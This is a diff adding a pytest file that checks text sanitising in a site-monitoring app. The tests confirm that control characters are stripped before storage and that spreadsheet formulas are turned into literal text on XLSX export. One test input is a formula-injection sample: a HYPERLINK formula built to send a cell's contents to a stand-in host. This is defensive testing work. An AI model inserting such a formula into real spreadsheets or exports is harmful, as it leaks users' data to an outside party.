@@ -1,0 +1,79 @@
+"""Text rules at the edges: control characters never stored, formulas never exported."""
+
+from __future__ import annotations
+
+import io
+from datetime import datetime
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from pantau.auth import authenticate
+from pantau.db import Database, tables
+from pantau.db import events as event_store
+from pantau.safetext import clean, defuse, export_frame
+from pantau.sites import edit_site
+
+NOW = datetime(2026, 11, 24, 3, 0)
+PLUIT = "31.72.01.1005"
+
+
+@pytest.mark.parametrize(
+    ("raw", "stored"),
+    [
+        ("Pasar\x01Pluit", "PasarPluit"),
+        ("a\x00b", "ab"),
+        ("baris\nkedua\ttab", "baris\nkedua\ttab"),
+        ("\x1b[31mmerah", "[31mmerah"),
+        (12, 12),
+        (None, None),
+    ],
+)
+def test_clean_removes_control_characters_only(raw: object, stored: object) -> None:
+    assert clean(raw) == stored
+
+
+@pytest.mark.parametrize(
+    ("raw", "out"),
+    [
+        ('=HYPERLINK("http://x/?a="&A1,"klik")', '\'=HYPERLINK("http://x/?a="&A1,"klik")'),
+        ("+62 812", "'+62 812"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("-", "-"),
+        ("Pasar Pluit", "Pasar Pluit"),
+        (-5, -5),
+    ],
+)
+def test_defuse_makes_formulas_literal(raw: object, out: object) -> None:
+    assert defuse(raw) == out
+
+
+def test_a_site_name_with_a_control_character_is_stored_clean(sample_copy: Database) -> None:
+    """A lurah once saved `Pasar\\x01Pluit`; every XLSX download then failed."""
+    lurah = authenticate(sample_copy, "lurah.pluit", "demo-lurah", NOW)
+    site = next(
+        s for s in tables.rows(sample_copy.cursor(), "sites") if s["kelurahan_kode"] == PLUIT
+    )
+    edit_site(
+        sample_copy, lurah, int(site["id"]), int(site["version"]), {"name": "Pasar\x01Pluit"}, NOW
+    )
+    stored = tables.get(sample_copy.cursor(), "sites", int(site["id"]))
+    assert stored is not None and stored["name"] == "PasarPluit"
+    history = event_store.for_record(sample_copy.cursor(), "site", int(site["id"]))
+    assert not history["new_value"].astype("string").str.contains("\x01", na=False).any()
+
+
+def test_an_export_frame_opens_as_text_in_a_spreadsheet() -> None:
+    frame = pd.DataFrame(
+        {"nama": ["=1+1", "biasa", "x\x01y"], "angka": [1, -2, 3]},
+    )
+    buffer = io.BytesIO()
+    export_frame(frame).to_excel(buffer, index=False)
+    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
+    assert sheet is not None
+    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
+    assert values == [["'=1+1", 1], ["biasa", -2], ["xy", 3]]
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
